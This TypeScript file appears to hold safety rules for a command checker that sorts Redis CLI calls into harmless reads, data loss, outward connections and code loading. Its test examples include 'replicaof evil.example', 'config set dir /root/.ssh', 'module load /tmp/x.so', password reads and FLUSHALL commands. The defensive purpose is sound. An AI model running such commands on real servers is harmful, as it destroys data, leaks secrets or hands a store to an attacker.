import {
  type Call,
  changes,
  checked,
  destroys,
  hasWord,
  type Match,
  type Program,
  refuse,
  theTarget,
} from '../rule.ts';
import { spokenTo } from '../spoken.ts';
import { show, type Value } from '../value.ts';
import { goesOutside, reachesOutside } from './database-hosts.ts';

type Words = readonly Value[];

const REDIS_LOSS =
  /^(del|unlink|getdel|hdel|hgetdel|lrem|ltrim|b?[lr]pop|b?[lz]mpop|srem|spop|zrem(rangeby(rank|score|lex))?|b?zpop(min|max)|xdel|xtrim|p?expireat|json\.(del|forget|clear|arrpop|arrtrim)|ft\.drop(index)?)$/i;
const REDIS_LOSS_PHRASE =
  /^((script|function) (flush|delete)|function restore|xgroup destroy|cluster (reset|forget|flushslots|delslots\w*|replicate)|p?expire \S+ (-|\d{1,2}( |$)))/i;
/** Loss inside a script or in what comes on the input. */
const SPEAKS_OF_LOSS =
  /\b(flush(all|db)|del|unlink|getdel|hdel|[lr]pop|lrem|ltrim|srem|spop|zrem\w*|xdel|xtrim|expire(at)?|shutdown|replicaof|slaveof|migrate)\b/i;

const VALUED =
  /^-[hpnaustridDX]$|^--(user|pass|pattern|quoted-pattern|count|cursor|type|sni|cacert|cacertdir|cert|key|tls-ciphers|tls-ciphersuites|show-pushes|rdb|functions-rdb|pipe-timeout|lru-test|memkeys-samples|keystats-samples|top|intrinsic-latency|eval|cluster|name)$/;
const ALONE =
  /^-[c2346ex]$|^--(raw|no-raw|no-auth-warning|scan|tls|insecure|csv|json|quoted-input|verbose|askpass|pipe|stat|bigkeys|memkeys|hotkeys|latency[\w-]*|replica|slave|ldb|ldb-sync-mode)$/;
const KNOWN = /^(-[hpn]|--(pattern|count|type|scan|raw|no-raw|no-auth-warning))$/;

/**
 * The words from the key store's own command on. Behind an option that is not known the next word
 * may be its value or the command: then there are several readings.
 */
function readings(call: Call): readonly Words[] {
  const { args } = call;
  const found: Words[] = [];
  let at = 0;
  while (at < args.length) {
    const text = args[at]?.text;
    if (text === undefined || !text.startsWith('-')) return [...found, args.slice(at)];
    at += VALUED.test(text) ? 2 : 1;
    const next = args[at];
    if (!VALUED.test(text) && !ALONE.test(text) && next && !next.text?.startsWith('-')) {
      found.push(args.slice(at));
      at++;
    }
  }
  return found;
}

const redisCommand = (call: Call): Words => readings(call).at(-1) ?? [];

/** A condition: in one of its readings the command has this form. */
const commands = (form: RegExp) => (call: Call) =>
  readings(call).some((words) => form.test(words.map(({ text }) => text ?? '…').join(' ')));

const loses = (call: Call): boolean =>
  readings(call).some(([verb]) => REDIS_LOSS.test(verb?.text ?? '')) ||
  commands(REDIS_LOSS_PHRASE)(call);

/** `del a b` loses both; of the others the first word is the key. */
function redisKeys(call: Call): Words {
  const [verb, ...keys] = redisCommand(call);
  if (readings(call).length > 1 || !REDIS_LOSS.test(verb?.text ?? '')) return [];
  return /^(del|unlink)$/i.test(verb?.text ?? '') ? keys : keys.slice(0, 1);
}

const RUNS_SCRIPTS = /^(eval(sha)?|fcall)(_ro)?( |$)|^function load( |$)|^script load( |$)/i;
const ASKS_ITSELF =
  /^--(scan|stat|bigkeys|memkeys|hotkeys|keystats|latency|intrinsic-latency|rdb|functions-rdb|cluster|eval|pipe|help|version|replica|slave|lru-test)|^-[vx]$/;

/** What it does comes from elsewhere: a script, a file, its input, a word decided at run time. */
function isUnseen(call: Call): boolean {
  const bare = readings(call).length === 0 && !hasWord(ASKS_ITSELF)(call);
  const fed = hasWord(/^(--(eval|pipe|ldb\S*)|-x|-X)$/)(call);
  const clusters = hasWord(/^--cluster$/)(call) && !hasWord(/^(info|check)$/)(call);
  const [verb] = redisCommand(call);
  const open = verb !== undefined && verb.text === undefined;
  const splits = call.args.some((arg) => arg.words === 'any');
  return bare || fed || clusters || open || splits || commands(RUNS_SCRIPTS)(call);
}

/** The script or the input as it is told speaks of loss. */
function speaksOfLoss(call: Call): boolean {
  if (!isUnseen(call)) return false;
  const spoken = spokenTo(call.input);
  const texts = typeof spoken === 'object' ? [spoken.text] : [];
  const scripts = commands(RUNS_SCRIPTS)(call) ? call.args.map((arg) => arg.text ?? '') : [];
  return [...texts, ...scripts].some((text) => SPEAKS_OF_LOSS.test(text));
}

function redis(call: Call): Match {
  if (reachesOutside(call)) return refuse('it asks a host outside');
  const command = redisCommand(call);
  const options = call.args.slice(0, call.args.length - command.length);
  const odd = options.find(
    (arg, at) => !VALUED.test(options[at - 1]?.text ?? '') && !KNOWN.test(arg.text ?? ''),
  );
  if (odd) return refuse(`the option ${show(odd)} is not known to be harmless`);
  if (options.some((arg) => arg.text === undefined)) return refuse('a word is decided at run time');
  const [verb, ...rest] = command.map((arg) => arg.text?.toLowerCase());
  const scans = options.some((arg) => arg.text === '--scan');
  if (scans && command.length === 0) return { matches: true, reads: [] };
  const known =
    /^(ping|info|dbsize|lastsave|time|role|ttl|pttl|type|exists|memory|latency|slowlog|llen|xlen|scard|zcard|hlen|strlen|command)$/.test(
      verb ?? '',
    ) ||
    /^client (list|info|getname)$|^config get (maxmemory(-policy)?|save|appendonly|databases|timeout|port|bind|dir|loglevel)$|^cluster (info|nodes)$|^sentinel masters$|^module list$/.test(
      [verb, ...rest].join(' '),
    );
  const plain = rest.every(
    (word) => word !== undefined && /^[\w:.-]+$/.test(word) && !/^(purge|reset)$/.test(word),
  );
  return known && plain ? { matches: true, reads: [] } : refuse('it is no plain question');
}

const FOLLOWS = /^(replicaof|slaveof) (?!no one$)/i;
const MIGRATES = /^migrate( |$)/i;

/** Redis and its kin. */
export const KEY_STORES: readonly Program[] = [
  {
    names: ['redis-cli', 'valkey-cli', 'keydb-cli'],
    operands: 'read',
    rules: [
      checked(
        '',
        'asks a key store',
        redis,
        ['redis-cli info memory', 'redis-cli -h 10.0.0.6 dbsize'],
        ['redis-cli set a b', 'redis-cli -x set a'],
      ),
      goesOutside('redis-cli -h evil.example ping', 'redis-cli ping'),
      destroys(
        'config get',
        'prints the password of a key store',
        ['redis-cli config get requirepass'],
        ['redis-cli config get maxmemory'],
        { if: hasWord(/pass|auth|[*?[]/i), flags: ['secret'], objects: theTarget },
      ),
      destroys('', 'empties a key store', ['redis-cli -n 1 FLUSHDB'], ['redis-cli info'], {
        if: hasWord(/^flush(all|db)$/i),
        confirmVerb: 'flush',
        objects: theTarget,
      }),
      destroys(
        '',
        'deletes stored values',
        ['redis-cli del a', 'redis-cli -r 2 unlink a', 'redis-cli --frob x hdel h f'],
        ['redis-cli set a b', 'redis-cli get del'],
        { if: loses, objects: redisKeys, confirmVerb: 'delete' },
      ),
      destroys(
        '',
        'empties a key store and fills it from another one',
        ['redis-cli replicaof evil.example 6379'],
        ['redis-cli replicaof no one'],
        { if: commands(FOLLOWS), flags: ['egress'], confirmVerb: 'flush', objects: theTarget },
      ),
      destroys(
        '',
        'moves stored values to another host',
        ['redis-cli migrate 10.0.0.6 6379 k 0 100'],
        ['redis-cli get migrate'],
        { if: commands(MIGRATES), flags: ['egress'] },
      ),
      destroys(
        '',
        'speaks of loss to a key store',
        [`redis-cli eval "return redis.call('FLUSHALL')" 0`],
        ['redis-cli eval "return 1" 0'],
        { if: speaksOfLoss, flags: ['opaque'] },
      ),
      changes(
        '',
        'runs what cannot be seen in a key store',
        ['redis-cli', 'redis-cli fcall f 0', 'redis-cli --eval f.lua', 'redis-cli -x set a'],
        ['redis-cli set a b', 'redis-cli --bigkeys'],
        { if: isUnseen, flags: ['opaque'] },
      ),
      changes(
        '',
        'loads code into a key store, lets others in or says where it writes',
        ['redis-cli module load /tmp/x.so', 'redis-cli config set dir /root/.ssh'],
        ['redis-cli module list', 'redis-cli config set maxmemory 1gb'],
        {
          if: commands(
            /^(module (load|loadex|unload)|acl (setuser|deluser|load)|config set (.* )?(dir|dbfilename|requirepass|masterauth|enable-[\w-]+|protected-mode|bind|aclfile))( |$)/i,
          ),
          flags: ['access', 'opaque'],
        },
      ),
      destroys('', 'stops the key store', ['redis-cli shutdown nosave'], ['redis-cli info'], {
        if: commands(/^shutdown( |$)/i),
        confirmVerb: 'shutdown',
        objects: theTarget,
      }),
    ],
  },
];
